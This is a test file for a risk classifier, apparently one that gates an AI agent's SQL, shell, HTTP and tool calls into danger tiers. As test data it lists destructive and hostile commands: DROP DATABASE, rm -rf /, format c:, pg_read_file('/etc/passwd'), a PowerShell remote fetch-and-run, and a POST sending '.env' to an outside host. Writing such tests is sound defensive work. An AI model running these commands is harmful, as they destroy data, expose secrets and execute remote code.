/**
 * The classifier on SQL, on the texts of other languages and on tool calls: what each line does and the tiers that can be
 * defended for it.
 */
import { describe, expect, it } from 'vitest';
import { factsFrom } from '../../harness/gate/classify/facts.js';
import { classify } from '../../harness/gate/classify/index.js';
import { readAs } from '../support/classify-bed.js';

type Row = readonly [text: string, tiers: string, environment?: string];

const SQL: readonly Row[] = [
  ['SELECT * FROM users', 'T0', 'prod'],
  ["SELECT 'DELETE FROM users'", 'T0', 'prod'],
  ['-- DELETE FROM users', 'T0', 'prod'],
  ['EXPLAIN DELETE FROM users', 'T0', 'prod'],
  ['EXPLAIN ANALYZE DELETE FROM users', 'T4', 'prod'],
  ['EXPLAIN (ANALYZE false) DELETE FROM users', 'T0', 'prod'],
  ['BEGIN; COMMIT', 'T0', 'prod'],
  ['SHOW search_path', 'T0', 'prod'],
  ['DELETE FROM users', 'T4', 'prod'],
  ['DELETE FROM users', 'T4', 'dev'],
  ['DELETE FROM users', 'T3', 'test'],
  ['DELETE FROM users WHERE 1=1', 'T4', 'prod'],
  ['DELETE FROM users WHERE true', 'T4', 'prod'],
  ['DELETE FROM users WHERE NOT false', 'T4', 'prod'],
  ["DELETE FROM users WHERE 'a'='a'", 'T4', 'prod'],
  ['DELETE FROM users WHERE 2 > 1', 'T4', 'prod'],
  ['DELETE FROM users WHERE 1+1=2', 'T4', 'prod'],
  ['DELETE FROM users WHERE id = id', 'T4', 'prod'],
  ['DELETE FROM users WHERE id IS NOT NULL', 'T4', 'prod'],
  ["DELETE FROM users WHERE name LIKE '%'", 'T4', 'prod'],
  ['DELETE FROM users WHERE id = 1 OR true', 'T4', 'prod'],
  ['DELETE FROM users WHERE id IN (SELECT id FROM users)', 'T4', 'prod'],
  ['DELETE FROM users WHERE EXISTS (SELECT 1)', 'T4', 'prod'],
  ['DELETE FROM users WHERE false', 'T0', 'prod'],
  ['DELETE FROM users WHERE id = 1', 'T3', 'prod'],
  ['DELETE FROM users WHERE id = 1', 'T2', 'dev'],
  ['DELETE FROM users WHERE id = $1 AND org = $2', 'T2', 'dev'],
  ["DELETE FROM users WHERE created_at < '2020-01-01'", 'T4', 'prod'],
  ['DELETE FROM ONLY users', 'T4', 'prod'],
  ['delete\nfrom\tusers', 'T4', 'prod'],
  ['DELETE /* WHERE id = 1 */ FROM users', 'T4', 'prod'],
  ['UPDATE users SET a = 1', 'T4', 'prod'],
  ['UPDATE users SET a = 1 WHERE id = 1', 'T1 T2', 'dev'],
  ['WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d', 'T4', 'prod'],
  ['WITH d AS (SELECT 1) SELECT * FROM d', 'T0', 'prod'],
  ['INSERT INTO users VALUES (1)', 'T1', 'prod'],
  ['INSERT INTO a SELECT * FROM b', 'T1', 'prod'],
  ['MERGE INTO a USING b ON a.id=b.id WHEN MATCHED THEN DELETE', 'T4', 'prod'],
  ['TRUNCATE users', 'T4', 'prod'],
  ['TRUNCATE a, b CASCADE', 'T4', 'prod'],
  ['DROP TABLE users', 'T4', 'prod'],
  ['DROP TABLE IF EXISTS users CASCADE', 'T4', 'prod'],
  ['DROP SCHEMA public CASCADE', 'T4', 'prod'],
  ['DROP DATABASE shop', 'T4', 'prod'],
  ['DROP INDEX i', 'T3', 'prod'],
  ['DROP OWNED BY x', 'T4', 'prod'],
  ['ALTER TABLE users DROP COLUMN a', 'T4', 'prod'],
  ['ALTER TABLE users ADD COLUMN a int', 'T1', 'prod'],
  ['ALTER TABLE users ALTER COLUMN a TYPE int', 'T4', 'prod'],
  ['ALTER TABLE users RENAME TO u', 'T3', 'prod'],
  ['CREATE TABLE t (a int)', 'T1', 'prod'],
  ['CREATE INDEX i ON t (a)', 'T1', 'prod'],
  ['CREATE TEMP TABLE t (a int); DELETE FROM t', 'T1', 'prod'],
  ['CREATE TEMP TABLE t (a int); DELETE FROM u', 'T4', 'prod'],
  ['SELECT 1; DROP TABLE users', 'T4', 'prod'],
  ["COPY users TO PROGRAM 'sh'", 'T4', 'prod'],
  ["COPY users TO '/tmp/x'", 'T3', 'prod'],
  ['COPY users FROM STDIN', 'T1', 'prod'],
  ['DO $$ BEGIN DELETE FROM users; END $$', 'T4', 'prod'],
  ["DO $$ BEGIN EXECUTE 'x'; END $$", 'T4', 'prod'],
  ['DO $$ BEGIN RAISE NOTICE $x$a$x$; END $$', 'T0', 'prod'],
  ['SELECT purge_users()', 'T4', 'prod'],
  ['SELECT lower(name) FROM users', 'T0', 'prod'],
  ["SELECT pg_read_file('/etc/passwd')", 'T4', 'prod'],
  ['SELECT pg_terminate_backend(1)', 'T3', 'prod'],
  ["SELECT dblink_exec('x', 'DROP TABLE users')", 'T4', 'prod'],
  ['CALL cleanup()', 'T4', 'prod'],
  ['GRANT ALL ON users TO public', 'T4', 'prod'],
  ['ALTER ROLE x SUPERUSER', 'T4', 'prod'],
  ['ALTER SYSTEM SET fsync = off', 'T4', 'prod'],
  ['SET session_replication_role = replica', 'T4', 'prod'],
  ['SET statement_timeout = 5', 'T0', 'prod'],
  ['VACUUM FULL users', 'T1', 'prod'],
  ['PREPARE p AS DELETE FROM users; EXECUTE p', 'T4', 'prod'],
  ['DELETE FROM [users]', 'T4', 'prod'],
  ['DELETE FROM `users`', 'T4', 'prod'],
  ['DELETE TOP (5) FROM users', 'T4', 'prod'],
  ['DELETE FROM users LIMIT 5', 'T4', 'prod'],
  ['DELETE FROM users WHERE id = 1 LIMIT 1', 'T2', 'dev'],
  ['this is no statement', 'T4', 'dev'],
  ['DELETE FROM users; \0 SELECT 1', 'T4', 'dev'],
  ['', 'T0', 'prod'],
];

describe('classify: SQL', () => {
  for (const [text, tiers, environment] of SQL) {
    it(`sql: ${JSON.stringify(text)} in ${environment} → ${tiers}`, () => {
      const read = readAs('sql', text, environment);
      expect(tiers.split(' '), JSON.stringify(read.reasons)).toContain(read.tier);
    });
  }

  it('sql: what is no PostgreSQL → says so, and where', () => {
    const read = readAs('sql', 'DELETE FROM users WHERE ???', 'prod');
    expect(read).toMatchObject({ tier: 'T4', confidence: 'unresolved' });
    expect(read.reasons[0]?.why).toMatch(/^not PostgreSQL/);
    expect(read.reasons[0]?.from).toBeGreaterThan(20);
  });

  it('sql: several statements → the reason has the place of the one that decides', () => {
    const text = 'SELECT 1; DROP TABLE users; SELECT 2';
    const [reason] = readAs('sql', text, 'prod').reasons;
    expect(text.slice(reason?.from, reason?.to).trim()).toBe('DROP TABLE users');
  });
});

describe('classify: other tools', () => {
  const ROWS: readonly (readonly [string, string | object, string, string?])[] = [
    ['cmd', 'dir', 'T0'],
    ['cmd', 'del /s /q C:\\', 'T4'],
    ['cmd', 'rmdir /s /q build', 'T1'],
    ['cmd', 'del a.txt', 'T2'],
    ['cmd', 'format c:', 'T4'],
    ['powershell', 'Get-ChildItem', 'T0'],
    ['powershell', 'Remove-Item -Recurse -Force src', 'T3'],
    ['powershell', 'Get-ChildItem | Remove-Item', 'T4'],
    ['powershell', 'iex (iwr https://x.example)', 'T4'],
    ['powershell', 'Frobnicate-It', 'T2'],
    ['python', 'print(1)', 'T0'],
    ['python', 'import shutil\nshutil.rmtree("/")', 'T4'],
    ['http', { method: 'GET', url: 'https://example.com' }, 'T0'],
    ['http', { method: 'DELETE', url: 'https://example.com/users' }, 'T4'],
    ['http', { method: 'POST', url: 'http://localhost/x', body: {} }, 'T1'],
    ['http', { method: 'POST', url: 'https://x.example', body: { k: '.env' } }, 'T4'],
    ['mcp', { name: 'get_user' }, 'T1'],
    ['mcp', { name: 'delete_user', arguments: { id: 1 } }, 'T3'],
    ['mcp', { name: 'delete_all_users' }, 'T4'],
    ['mcp', { name: 'get_user', annotations: { destructiveHint: true } }, 'T4'],
    ['mcp', { name: 'delete_user', annotations: { readOnlyHint: true, destructiveHint: false } }, 'T3'],
    ['mcp', { name: 'frobnicate' }, 'T2'],
    ['mcp', {}, 'T4'],
    ['mail.send', { to: ['a'] }, 'T3'],
    ['mail.send', { to: Array.from({ length: 60 }, (_, n) => `${n}`) }, 'T4'],
    ['deploy.release', {}, 'T4', 'prod'],
    ['fs.read', { path: 'a' }, 'T0'],
    ['fs.delete', { path: '../a' }, 'T4'],
    ['nobody.knows', {}, 'T4'],
    ['nobody.knows', 'text', 'T4'],
    ['bash', { command: 'rm -rf /' }, 'T4'],
    ['bash', {}, 'T4'],
  ];
  for (const [tool, input, tier, environment = 'dev'] of ROWS) {
    it(`${tool}: ${JSON.stringify(input)} → ${tier}`, () => {
      expect(readAs(tool, input, environment)).toMatchObject({ tier });
    });
  }

  it('classify: without grammars → texts of shell and SQL are taken for the worst', () => {
    for (const tool of ['bash', 'sql'])
      expect(classify(tool, 'ls')).toMatchObject({ tier: 'T4', confidence: 'unresolved' });
  });

  it('facts: words of an environment → what they say; unknown ones → production', () => {
    const found = [
      'prod',
      'dev laptop',
      'sandbox',
      'test dir',
      'customer data',
      'repo',
      'moon',
      undefined,
    ].map((text) => factsFrom(text).surroundings);
    expect(found).toEqual([
      'production',
      'development',
      'scratch',
      'scratch',
      'production',
      'development',
      'production',
      'production',
    ]);
  });
});
